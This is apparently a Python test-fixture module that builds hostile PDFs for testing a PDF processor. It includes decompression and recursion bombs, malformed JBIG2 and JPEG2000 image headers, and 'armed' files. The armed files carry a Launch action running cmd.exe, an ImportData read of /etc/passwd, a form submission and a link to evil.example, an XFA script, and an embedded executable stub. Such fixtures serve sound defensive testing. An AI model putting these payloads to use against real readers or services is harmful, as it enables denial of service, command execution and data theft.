"""PDFs that are small to send and dear to draw, or that carry what does not belong there, made by code."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream

from tests.outside.hostile_files import pdf, saved


def _page_with(document: pikepdf.Pdf, content: bytes, **resources: Dictionary) -> bytes:
    page = document.pages[0].obj
    page.Resources = Dictionary(**resources)
    page.Contents = document.make_indirect(Stream(document, content))
    return saved(document)


def forms_in_forms(depth: int = 9, times: int = 10) -> bytes:
    """Each form draws the next one ten times: nine levels make a thousand million drawings."""
    document = pdf()
    inner = document.make_indirect(_form(document, b"0 0 5 5 re f"))
    for _ in range(depth):
        inner = document.make_indirect(_form(document, b"/X Do " * times, XObject=Dictionary(X=inner)))
    return _page_with(document, b"/X Do", XObject=Dictionary(X=inner))


def form_in_itself() -> bytes:
    document = pdf()
    form = document.make_indirect(_form(document, b"/X Do /X Do"))
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    return _page_with(document, b"/X Do", XObject=Dictionary(X=form))


def _form(document: pikepdf.Pdf, content: bytes, **resources: Dictionary) -> Stream:
    form = Stream(document, content)
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
    form.Resources = Dictionary(**resources)
    return form


def patterns_in_patterns(depth: int = 6) -> bytes:
    """A page filled with tiles of a point, each filled with tiles."""
    document = pdf()
    inner = document.make_indirect(_tile(document, b"0 0 0.5 0.5 re f"))
    for _ in range(depth):
        content = b"/Pattern cs /P scn 0 0 600 850 re f"
        inner = document.make_indirect(_tile(document, content, Pattern=Dictionary(P=inner)))
    return _page_with(document, b"/Pattern cs /P scn 0 0 600 850 re f", Pattern=Dictionary(P=inner))


def _tile(document: pikepdf.Pdf, content: bytes, **resources: Dictionary) -> Stream:
    tile = Stream(document, content)
    tile.Type, tile.PatternType, tile.PaintType, tile.TilingType = Name.Pattern, 1, 1, 1
    tile.BBox, tile.XStep, tile.YStep = Array([0, 0, 600, 850]), 1, 1
    tile.Resources = Dictionary(**resources)
    return tile


def many_strokes(megabytes: int = 20) -> bytes:
    """Drawing orders below the limit of unpacking, each across the whole page."""
    document = pdf()
    row = b"0 0 m 595 842 l 595 0 l 0 842 l b*\n"
    content = b"q [3 1] 0 d 40 w /G gs " + row * (megabytes * 1024 * 1024 // len(row))
    state = Dictionary(G=Dictionary(CA=0.5, ca=0.5, BM=Name.Luminosity))
    return _page_with(document, content, ExtGState=state)


def shading_of_a_program(size: int = 3_000) -> bytes:
    """Colours computed for each point by a long calculation."""
    document = pdf()
    function = Stream(document, b"{ " + b"sin 360 mul cos 360 mul " * size + b" dup dup }")
    function.FunctionType, function.Domain, function.Range = 4, Array([0, 1]), Array([0, 1] * 3)
    shading = Dictionary(
        ShadingType=2, ColorSpace=Name.DeviceRGB, Coords=Array([0, 0, 595, 842]), Extend=Array([True, True]),
        Function=document.make_indirect(function),
    )  # fmt: skip
    return _page_with(document, b"/S sh " * 200, Shading=Dictionary(S=shading))


def _picture(document: pikepdf.Pdf, raw: bytes, filter: str, width: int = 600, height: int = 800) -> bytes:
    image = Stream(document, b"")
    image.write(raw, filter=Name(filter))
    image.Type, image.Subtype, image.Width, image.Height = Name.XObject, Name.Image, width, height
    image.BitsPerComponent, image.ColorSpace = (1 if filter == "/JBIG2Decode" else 8), Name.DeviceGray
    return _page_with(document, b"595 0 0 842 0 0 cm /I Do", XObject=Dictionary(I=document.make_indirect(image)))


def jbig2_oddities() -> bytes:
    """Segments that claim a page of four thousand million lines, and go on with noise."""
    segment = (
        b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13" + b"\xff\xff\xff\xf0" * 2 + b"\x00" * 8 + b"\x00" + b"\x00\x00"
    )
    return _picture(pdf(), segment + random.Random(1).randbytes(4000), "/JBIG2Decode")


def jpeg2000_oddities() -> bytes:
    """A codestream whose header claims tiles and components beyond measure."""
    size = b"\xff\x4f\xff\x51\x00\x2f\x00\x00" + b"\x7f\xff\xff\xff" * 2 + bytes(8) + b"\x00\x00\x00\x01" * 2 + bytes(8)
    return _picture(pdf(), size + b"\x00\x03" + b"\x07\x01\x01" * 3 + random.Random(2).randbytes(3000), "/JPXDecode")


def picture_that_lies() -> bytes:
    """A picture that says it is small, with a filter whose own header says it is huge."""
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("L", (7_000, 7_000), 255).save(buffer, "JPEG", quality=5)
    return _picture(pdf(), buffer.getvalue(), "/DCTDecode", 100, 100)


def object_stream_bomb(megabytes: int = 200) -> bytes:
    """The objects themselves are packed, before gigabytes of nothing: to open the file is to unpack it."""
    things = [b"<</Type/Catalog/Pages 3 0 R>>", b"<</Type/Pages/Kids[4 0 R]/Count 1>>"]
    things.append(b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]>>")
    starts = [sum(len(thing) + 1 for thing in things[:place]) for place in range(3)]
    head = " ".join(f"{number} {start}" for number, start in zip((2, 3, 4), starts, strict=True)).encode() + b" "
    packer = zlib.compressobj(9)
    packed = packer.compress(head + b" ".join(things) + b" ")
    packed += b"".join(packer.compress(bytes(1 << 20)) for _ in range(megabytes)) + packer.flush()
    file = b"%PDF-1.5\n"
    bundle = f"1 0 obj\n<</Type/ObjStm/N 3/First {len(head)}/Filter/FlateDecode/Length {len(packed)}>>\nstream\n"
    place = len(file) + len(bundle) + len(packed) + len(b"\nendstream\nendobj\n")
    rows = b"".join(
        bytes([kind]) + first.to_bytes(4, "big") + bytes([second])
        for kind, first, second in ((0, 0, 255), (1, len(file), 0), (2, 1, 0), (2, 1, 1), (2, 1, 2), (1, place, 0))
    )
    file += bundle.encode() + packed + b"\nendstream\nendobj\n"
    file += f"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 2 0 R/Length {len(rows)}>>\nstream\n".encode()
    return file + rows + f"\nendstream\nendobj\nstartxref\n{place}\n%%EOF\n".encode()


def dashes(lines: int = 2_000) -> bytes:
    """Lines across the page in dashes of a ten-thousandth of a point."""
    return _page_with(pdf(), b"[0.0001 0.0001] 0 d 0.1 w\n" + b"0 0 m 595 842 l S\n" * lines)


def xfa_form() -> bytes:
    document = pdf()
    xfa = Stream(
        document, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.launchURL('http://x')</script></xdp:xdp>"
    )
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_indirect(xfa), NeedAppearances=True)
    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="http://evil.example/"))
    return saved(document)


def actions_everywhere() -> bytes:
    """Launch, URI, ImportData and hidden actions, on annotations, outlines, pages and through a chain of Next."""
    document = pdf()
    launch = Dictionary(S=Name.Launch, Win=Dictionary(F="cmd.exe", P="/c calc"))
    chain = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=Array([launch, launch]))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=chain)
    hidden = Dictionary(
        Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), Contents="x",
        A=Dictionary(S=Name.ImportData, F="file:///etc/passwd"),
    )  # fmt: skip
    document.pages[0].obj.Annots = Array([document.make_indirect(link), document.make_indirect(hidden)])
    with document.open_outline() as outline:
        item = pikepdf.OutlineItem("x", action=Dictionary(S=Name.URI, URI="http://evil.example/"))
        outline.root.append(item)
    return saved(document)


def embedded_files() -> bytes:
    """An attachment in the name tree, as an annotation, as a collection and beside a page."""
    document = pdf()
    document.attachments["a.exe"] = b"MZ" + bytes(100)
    spec = document.Root.Names.EmbeddedFiles.Names[1]
    document.Root.Collection = Dictionary(Type=Name.Collection, D="a.exe")
    document.Root.AF = Array([spec])
    document.pages[0].obj.AF = Array([spec])
    pin = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=spec)
    document.pages[0].obj.Annots = Array([document.make_indirect(pin)])
    return saved(document)


def owner_password_only() -> bytes:
    return saved(pdf(), encryption=pikepdf.Encryption(owner="o", user="", allow=pikepdf.Permissions(extract=False)))


DEAR: dict[str, Callable[[], bytes]] = {
    "forms in forms": forms_in_forms,
    "form in itself": form_in_itself,
    "patterns in patterns": patterns_in_patterns,
    "many strokes": many_strokes,
    "shading of a program": shading_of_a_program,
    "jbig2": jbig2_oddities,
    "jpeg2000": jpeg2000_oddities,
    "picture that lies": picture_that_lies,
    "object stream bomb": object_stream_bomb,
    "dashes": dashes,
}
ARMED: dict[str, Callable[[], bytes]] = {
    "xfa": xfa_form,
    "actions": actions_everywhere,
    "embedded files": embedded_files,
}
